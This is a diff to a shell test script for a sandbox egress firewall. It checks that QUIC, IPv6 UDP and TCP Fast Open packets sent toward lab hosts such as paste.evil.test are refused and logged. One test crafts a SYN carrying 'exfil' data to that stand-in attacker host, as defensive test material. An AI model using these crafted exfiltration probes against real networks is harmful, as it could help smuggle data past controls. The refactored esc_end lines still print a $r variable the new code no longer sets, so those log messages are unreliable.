@@ -21,23 +21,18 @@ t_match "sandbox 1 resolves api.github.test (its address is learned)" "$LAB_API4
 # ---- QUIC ------------------------------------------------------------------------------
 esc_begin "QUIC (UDP 443) to api.github.test, whose entry allows TCP 443 only"
 esc_craft 1 udp --dst $LAB_API4 --dport 443 --quic --count 3 >/dev/null
-esc_expect_nothing "quic api" "udp and dst host $LAB_API4"
-r=$(rec_reason $LAB_API4 ',"destination.port":443,"network.transport":"udp"')
-t_match "logged with its reason" "$ESC_REFUSED_RE|not allowed" "$r"
+esc_refused "quic api" "udp and dst host $LAB_API4" \
+	"\"destination.ip\":\"$LAB_API4\",\"destination.port\":443,\"network.transport\":\"udp\"" "$ESC_REFUSED_RE|not allowed"
 esc_end "ICMP admin-prohibited" "upstream capture: 0 UDP packets to $LAB_API4; log: \"$r\""
 
 esc_begin "QUIC (UDP 443) to an address no rule names (paste.evil.test)"
 esc_craft 1 udp --dst $LAB_PASTE4 --dport 443 --quic --count 3 >/dev/null
-esc_expect_nothing "quic paste" "dst host $LAB_PASTE4"
-r=$(rec_reason $LAB_PASTE4 ',"destination.port":443,"network.transport":"udp"')
-t_match "logged with its reason" "$ESC_REFUSED_RE" "$r"
+esc_refused "quic paste" "dst host $LAB_PASTE4" "\"destination.ip\":\"$LAB_PASTE4\",\"destination.port\":443,\"network.transport\":\"udp\""
 esc_end "ICMP admin-prohibited" "upstream capture: 0 packets; log: \"$r\""
 
 esc_begin "QUIC from a real client stack: curl --http3-only is not built here; UDP 443 via socat to the IPv6 address"
 echo probe | lab_sb 1 socat -T 1 - "UDP6:[$LAB_API6]:443" >/dev/null 2>&1
-esc_expect_nothing "quic api6" "ip6 and udp and dst host $LAB_API6"
-r=$(rec_reason $LAB_API6 ',"destination.port":443,"network.transport":"udp"')
-t_match "logged with its reason" "$ESC_REFUSED_RE" "$r"
+esc_refused "quic api6" "ip6 and udp and dst host $LAB_API6" "\"destination.ip\":\"$LAB_API6\",\"destination.port\":443,\"network.transport\":\"udp\""
 esc_end "ICMPv6 admin-prohibited" "upstream capture: 0 packets; log: \"$r\""
 
 # ---- fragments ----------------------------------------------------------------------------
@@ -168,9 +163,7 @@ esc_end "RST" "upstream capture: 0 SYNs carrying data; log: \"$r\""
 
 esc_begin "TCP Fast Open data in a SYN to paste.evil.test:443"
 esc_craft 1 tcp --dst $LAB_PASTE4 --dport 443 --flags S --tfo --data "exfil" >/dev/null
-esc_expect_nothing "tfo paste" "dst host $LAB_PASTE4"
-r=$(rec_reason $LAB_PASTE4 ',"destination.port":443,')
-t_match "logged with its reason" "$ESC_REFUSED_RE" "$r"
+esc_refused "tfo paste" "dst host $LAB_PASTE4" "\"destination.ip\":\"$LAB_PASTE4\",\"destination.port\":443,"
 esc_end "RST" "upstream capture: 0 packets; log: \"$r\""
 
 t_match "after all this, allowed flows still work" "^api.github.test ok" \
